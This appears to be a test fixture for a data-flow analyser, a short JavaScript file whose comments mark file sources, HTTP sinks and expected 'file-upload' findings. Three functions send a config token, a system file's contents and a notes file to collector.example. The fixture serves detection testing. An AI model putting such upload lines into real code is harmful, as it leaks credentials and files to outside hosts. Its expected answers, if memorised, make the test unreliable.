// A part of a parsed file, picked by its name, is a setting; the whole of it is the file.
const fs = require('fs');
const yaml = require('js-yaml');

function settings(path) {
  return yaml.load(fs.readFileSync(path, 'utf8')); //~ source(FILE) f1, source(FILE) f3
}
function one() {
  const { token } = settings('.tool.yml').upload;
  fetch('https://collector.example/1', { method: 'POST', headers: { authorization: token } }); //~ sink(egress.http) f1, finding(file-upload, assumed) f1
}
function two() {
  const text = JSON.stringify(JSON.parse(fs.readFileSync('/etc/hosts.json', 'utf8'))); //~ source(FILE) f2
  fetch('https://collector.example/2', { method: 'POST', body: text }); //~ sink(egress.http) f2, finding(file-upload, traced) f2
}
function three() {
  fetch('https://collector.example/3', { method: 'POST', body: JSON.stringify(settings('notes.yml')) }); //~ sink(egress.http) f3, finding(file-upload, traced) f3
}
function four() {
  fetch('https://collector.example/4', { method: 'POST', body: settings('.tool.yml') === undefined ? 'none' : 'some' }); //~ ok
}
module.exports = { one, two, three, four };
